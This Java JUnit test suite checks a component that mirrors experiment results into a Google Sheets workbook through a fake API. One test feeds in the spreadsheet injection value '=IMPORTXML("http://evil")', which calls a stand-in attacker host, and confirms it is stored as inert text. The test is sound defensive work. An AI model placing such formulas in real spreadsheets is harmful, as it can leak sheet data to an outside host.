package dev.gridcast.server.report.sheets;

import static org.assertj.core.api.Assertions.assertThat;

import dev.gridcast.server.report.sheets.SheetsFault.Kind;
import java.math.BigDecimal;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayDeque;
import java.util.Deque;
import java.util.List;
import java.util.stream.IntStream;
import java.util.stream.LongStream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

class MirrorTest {

  @SuppressWarnings("NullAway.Init")
  @TempDir
  private Path folder;

  @SuppressWarnings("NullAway.Init")
  private MirrorWorld world;

  @BeforeEach
  void shareASpreadsheet() {
    world = new MirrorWorld(folder, 100, 1);
    world.google.share(MirrorWorld.SHEET);
  }

  @AfterEach
  void close() {
    world.close();
  }

  private static List<Long> cases(long from, long until) {
    return LongStream.range(from, until).boxed().toList();
  }

  @Test
  void makesItsTabsWithLooksBesideThosePeopleHave() throws Exception {
    world.verify(cases(0, 3));
    world.connect().settle();

    FakeWorkbook book = world.google.book(MirrorWorld.SHEET);
    assertThat(book.titles())
        .containsExactly(
            "Sheet1",
            "Results",
            "Leaderboard",
            "Volunteers",
            "Experiment",
            "Forecasts",
            "Best so far");
    FakeTab results = world.results();
    assertThat(results.frozenRows).isEqualTo(1);
    assertThat(results.filterViews).hasSize(1);
    assertThat(results.widths).hasSize(world.header().size());
    assertThat(results.colours.toString())
        .contains("ISNUMBER")
        .doesNotContain(";") // the sign between arguments differs from country to country
        .doesNotContain("IF(");
    assertThat(book.tab("Best so far").charts).hasSize(1);
    assertThat(book.tab("Leaderboard").colours).isNotEmpty();
    assertThat(world.faults).isEmpty();
  }

  @Test
  void numbersAreNumbersAndTimesAreTextInTheRowOfTheirCase() throws Exception {
    world.verify(List.of(7L));
    world.connect().settle();

    world.assertSheetsAreLikeTheStore();
    FakeTab results = world.results();
    assertThat(results.get(9, world.header().indexOf("case_index")))
        .isEqualTo(BigDecimal.valueOf(7.0));
    assertThat(results.get(9, world.header().indexOf("confirmation_rmse")))
        .isEqualTo(BigDecimal.valueOf(707.0));
    assertThat(results.get(9, world.header().indexOf("leased_at")))
        .isEqualTo("2026-11-21T08:00:00Z");
    assertThat(results.get(9, world.header().indexOf("param.lags")))
        .isEqualTo(BigDecimal.valueOf(12.0));
  }

  @Test
  void theSmallTabsTellWhatThereIs() throws Exception {
    world.verify(cases(0, 20));
    world.connect().settle();

    FakeWorkbook book = world.google.book(MirrorWorld.SHEET);
    assertThat(book.tab("Leaderboard").lastRow()).isEqualTo(21);
    assertThat(book.tab("Leaderboard").get(2, 3)).isEqualTo(BigDecimal.valueOf(700.0));
    assertThat(book.tab("Volunteers").get(2, 1)).isEqualTo("Ada");
    assertThat(book.tab("Experiment").row(2)).startsWith("experiment", "demo");
    assertThat(book.tab("Experiment").row(3).get(1)).isEqualTo("d".repeat(64));
    assertThat(book.tab("Forecasts").get(2, 6)).isEqualTo("2026-11-21T12:00:00Z");
    assertThat(book.tab("Best so far").row(2)).hasSize(5);
  }

  @Test
  void aChangeIsWrittenWithinSeconds() throws Exception {
    world.lease(cases(0, 5));
    world.connect().settle();
    assertThat(world.results().get(5, 2)).isEqualTo("LEASED");

    world.verify(List.of(3L));
    world.run(Duration.ofSeconds(10));

    assertThat(world.results().get(5, 2)).isEqualTo("VERIFIED");
  }

  @Test
  void aStrangersTextIsNeverAFormulaAndNeverLeavesItsCell() throws Exception {
    world.lease(cases(0, 2));
    world.fail(List.of(0L), "=IMPORTXML(\"http://evil\")\u0007\u2028 tail");
    world.google.keepBodies = true;
    world.connect().settle();

    int reason = world.header().indexOf("reason");
    assertThat(world.results().get(2, reason))
        .isEqualTo("'=IMPORTXML(\"http://evil\") \u2028 tail");
    assertThat(world.google.bodies())
        .isNotEmpty()
        .allSatisfy(body -> assertThat(body).contains("\"valueInputOption\":\"RAW\""));
  }

  @Test
  void peoplesOwnColumnsAreLeftAloneAndOursAreMended() throws Exception {
    world.verify(cases(0, 30));
    world.connect().settle();
    int width = world.header().size();
    FakeTab results = world.results();
    results.set(1, width, "my notes");
    results.set(4, width + 1, "look here");
    results.set(4, 5, "nonsense");
    results.set(1, 0, "nr");
    results.set(60, 0, "a copy");
    results.swap(10, 11);
    results.deleteRow(20);

    world.settleAndLookAtEverything();

    world.assertSheetsAreLikeTheStore();
    assertThat(world.results().get(1, width)).isEqualTo("my notes");
    assertThat(world.results().get(4, width + 1)).isEqualTo("look here");
  }

  @Test
  void handEditsAreFoundWithoutBeingAsked() throws Exception {
    world.verify(cases(0, 30));
    world.connect().settle();
    world.results().set(4, 5, "nonsense");
    world.google.book(MirrorWorld.SHEET).tab("Leaderboard").set(3, 3, "better");

    world.run(Duration.ofMinutes(6));

    world.assertSheetsAreLikeTheStore();
    assertThat(world.google.book(MirrorWorld.SHEET).tab("Leaderboard").get(3, 3))
        .isEqualTo(BigDecimal.valueOf(701.0));
  }

  @Test
  void tabsThatWereDeletedOrRenamedAreFoundOrMadeAgain() throws Exception {
    world.verify(cases(0, 10));
    world.connect().settle();
    FakeWorkbook book = world.google.book(MirrorWorld.SHEET);
    book.tab("Leaderboard").title = "Beste";
    book.tabs.remove(Tab.RESULTS.id());
    book.tabs.put(5, new FakeTab("Results", 10, 10)); // a tab of somebody's own

    world.verify(List.of(50L));
    world.run(Duration.ofMinutes(6));
    world.settle();

    assertThat(book.titles()).contains("Beste", "Results", "Results 2");
    FakeTab again = book.tab("Results 2");
    assertThat(again.row(52)).isNotEmpty();
    assertThat(again.lastRow()).isEqualTo(52);
    assertThat(book.tab("Beste").lastRow()).isEqualTo(12);
  }

  @Test
  void aGridThatWasCutIsMadeLargerAgain() throws Exception {
    world.verify(cases(0, 10));
    world.connect().settle();
    world.results().rows = 5;
    world.results().columns = 3;

    world.verify(cases(20, 25));
    world.settle();

    world.assertSheetsAreLikeTheStore();
  }

  @Test
  void aSpreadsheetOfAnotherExperimentIsNotTouched() throws Exception {
    FakeWorkbook book = world.google.book(MirrorWorld.SHEET);
    world.connect().settle();
    ((com.fasterxml.jackson.databind.node.ObjectNode) book.marks.values().iterator().next())
        .put("metadataValue", "another");
    book.tab("Results").set(2, 0, "theirs");

    world.verify(List.of(0L));
    world.connect().step();

    assertThat(world.faults).extracting(SheetsFault::kind).contains(Kind.OTHER_EXPERIMENT);
    assertThat(book.tab("Results").get(2, 0)).isEqualTo("theirs");
  }

  @ParameterizedTest
  @EnumSource(Fault.class)
  void everyFaultPasses(Fault fault) throws Exception {
    world.verify(cases(0, 10));
    Deque<Fault> coming = new ArrayDeque<>(List.of(Fault.NONE, fault, fault, Fault.NONE, fault));
    world.google.trouble =
        () -> {
          Fault next = coming.poll();
          return next == null ? Fault.NONE : next;
        };

    world.connect().settle();
    world.verify(cases(10, 12));
    coming.addAll(List.of(fault, Fault.NONE, fault));
    world.settleAndLookAtEverything();

    assertThat(coming).isEmpty();
    world.assertSheetsAreLikeTheStore();
  }

  @Test
  void whatGoogleAsksForIsGiven() throws Exception {
    world.verify(cases(0, 1));
    world.connect().settle();
    world.verify(cases(1, 2));
    for (Fault fault : List.of(Fault.TOO_MANY_FOR_SECONDS, Fault.TOO_MANY_UNTIL)) {
      world.google.trouble = () -> fault;
      var before = world.clock.instant();
      world.step();
      while (world.faults.isEmpty()) {
        world.step();
      }
      assertThat(Duration.between(before, world.clock.instant()))
          .isGreaterThanOrEqualTo(Duration.ofSeconds(fault == Fault.TOO_MANY_FOR_SECONDS ? 7 : 19));
      assertThat(world.faults).extracting(SheetsFault::kind).containsOnly(Kind.BUSY);
      world.faults.clear();
    }
  }

  @Test
  void anOutageOfDaysIsCaughtUpInTheOrderOfTime() throws Exception {
    world.verify(cases(0, 1));
    world.connect().settle();
    world.google.trouble = () -> Fault.UNAVAILABLE;
    List<Long> order = IntStream.range(1, 100).mapToObj(i -> (long) (i * 37 % 100)).toList();
    for (long index : order) {
      world.verify(List.of(index));
      world.run(Duration.ofHours(1));
    }
    int tries = world.google.requests();
    assertThat(tries).isLessThan(100 * 60); // it does not knock all the time
    world.google.trouble = () -> Fault.NONE;
    world.google.keepBodies = true;
    world.settle();

    world.assertSheetsAreLikeTheStore();
    assertThat(world.google.refusedByQuota()).isZero();
  }

  @Test
  void moreChangesThanAreRememberedAreFoundByComparing() throws Exception {
    world.mostDirty = 10;
    world.connect().settle();
    world.google.trouble = () -> Fault.LOST_BEFORE;
    world.verify(cases(0, 60));
    world.run(Duration.ofMinutes(5));
    assertThat(world.mirror.waiting()).isLessThanOrEqualTo(10);
    world.google.trouble = () -> Fault.NONE;

    world.settle();

    world.assertSheetsAreLikeTheStore();
  }

  @Test
  void afterARestartNothingIsWrittenTwice() throws Exception {
    world.verify(cases(0, 40));
    world.connect().settle();
    world.verify(cases(40, 50)); // while nobody listens
    world.google.keepBodies = true;

    world.connect().settle();

    world.assertSheetsAreLikeTheStore();
    assertThat(world.google.bodies().stream().filter(body -> body.contains("'Results'!A")))
        .hasSize(1)
        .allSatisfy(body -> assertThat(body).contains("'Results'!A42:"));
  }
}
